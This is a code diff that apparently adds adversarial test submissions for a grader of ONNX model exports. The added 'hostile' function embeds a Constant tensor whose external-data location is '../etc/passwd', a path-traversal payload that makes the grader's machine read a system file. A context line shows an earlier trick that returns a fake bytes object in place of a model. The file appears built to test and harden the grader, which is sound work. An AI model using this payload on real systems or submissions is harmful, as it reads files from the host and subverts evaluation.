@@ -219,3 +219,24 @@ class Always(bytes):
 
 def export_onnx(problem):
     return Always(b"network")
+
+# %% hostile: a constant whose numbers lie in a file of the grader's machine — says "external data"
+import io
+
+import onnx
+import torch
+
+
+def export_onnx(problem):
+    buffer = io.BytesIO()
+    torch.onnx.export(
+        problem.model().eval(), (torch.zeros(2, 3, 32, 32),), buffer, dynamo=False, input_names=["images"], output_names=["scores"],
+        dynamic_axes={"images": {0: "batch"}, "scores": {0: "batch"}},
+    )
+    model = onnx.load_from_string(buffer.getvalue())
+    held = onnx.TensorProto(name="held", data_type=onnx.TensorProto.UINT8, dims=[16])
+    held.data_location = onnx.TensorProto.EXTERNAL
+    for key, value in {"location": "../etc/passwd", "offset": "0", "length": "16"}.items():
+        held.external_data.add(key=key, value=value)
+    model.graph.node.insert(0, onnx.helper.make_node("Constant", [], ["held"], value=held))
+    return model.SerializeToString()
